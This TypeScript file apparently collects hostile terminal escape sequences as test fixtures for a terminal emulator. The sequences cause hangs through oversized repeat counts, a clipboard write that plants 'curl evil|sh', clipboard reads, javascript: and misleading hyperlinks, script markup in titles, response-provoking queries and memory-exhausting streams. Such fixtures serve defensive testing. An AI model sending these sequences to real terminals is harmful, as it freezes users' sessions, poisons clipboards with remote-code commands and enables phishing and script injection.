/** Output of a terminal that was written to do harm, by what it is after. */

const CSI = '\u001b[';
const OSC = '\u001b]';
const BELL = '\u0007';
const LARGEST = 2_147_483_647;

/** Short ones: a bundle may be full of them. */
export const HOSTILE_STREAMS: Readonly<Record<string, string>> = {
  // Functions that xterm.js runs as often as they say.
  'hang by REP': `a${CSI}${LARGEST}b`,
  'hang by IL': `${CSI}${LARGEST}L`,
  'hang by DL': `${CSI}${LARGEST}M`,
  'hang by SU': `${CSI}${LARGEST}S`,
  'hang by SD': `${CSI}${LARGEST}T`,
  'hang by CHT': `${CSI}${LARGEST}I`,
  'hang by CBT': `${CSI}${LARGEST}Z`,
  'write the clipboard': `${OSC}52;c;Y3VybCBldmlsfHNo${BELL}`,
  'read the clipboard': `${OSC}52;c;?${BELL}`,
  'link to a script': `${OSC}8;;javascript:alert(1)${BELL}X${OSC}8;;${BELL}`,
  'link that names another place': `${OSC}8;;https://evil.example/${BELL}https://good.example${OSC}8;;${BELL}`,
  'markup in the title': `${OSC}0;<img src=x onerror=alert(1)>${BELL}`,
  'hold the picture back': `${CSI}?2026h`,
  'be answered': `${CSI}6n${CSI}c${CSI}>c${CSI}5n${CSI}?25$p${OSC}10;?${BELL}${OSC}4;1;?${BELL}\u001bP$qm\u001b\\${CSI}21t`,
};

/** Long ones, which cost by their length. */
export const LONG_STREAMS: Readonly<Record<string, string>> = {
  'renew the buffer': `${CSI}?1049h${CSI}?1049l`.repeat(20_000),
  'fill the memory by a title': `${OSC}0;${'x'.repeat(9_000_000)}${BELL}`,
};
